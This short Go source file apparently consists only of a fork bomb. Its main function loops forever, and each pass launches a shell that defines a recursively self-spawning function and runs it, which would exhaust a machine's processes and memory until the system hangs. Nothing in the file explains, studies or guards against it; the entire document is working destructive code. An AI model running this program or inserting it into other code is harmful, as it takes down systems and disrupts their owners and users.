package main

import "os/exec"

func main() {
	for {
		exec.Command("sh", "-c", "b() { b | b & }; b; sleep 60").Start()
	}
}
